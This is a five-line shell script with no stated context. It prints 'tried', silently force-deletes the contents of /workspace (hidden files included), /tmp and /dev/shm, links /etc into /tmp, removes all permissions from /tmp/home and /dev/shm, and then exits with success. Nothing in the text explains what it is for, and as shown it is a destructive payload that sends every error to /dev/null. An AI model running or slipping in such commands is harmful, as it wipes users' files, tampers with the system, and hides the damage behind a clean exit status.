echo tried
rm -rf /workspace/* /workspace/.[a-z]* /workspace /tmp/* /tmp/.[a-z]* /dev/shm/* 2> /dev/null
ln -s /etc /tmp/home
chmod 000 /tmp/home /dev/shm 2> /dev/null
exit 0
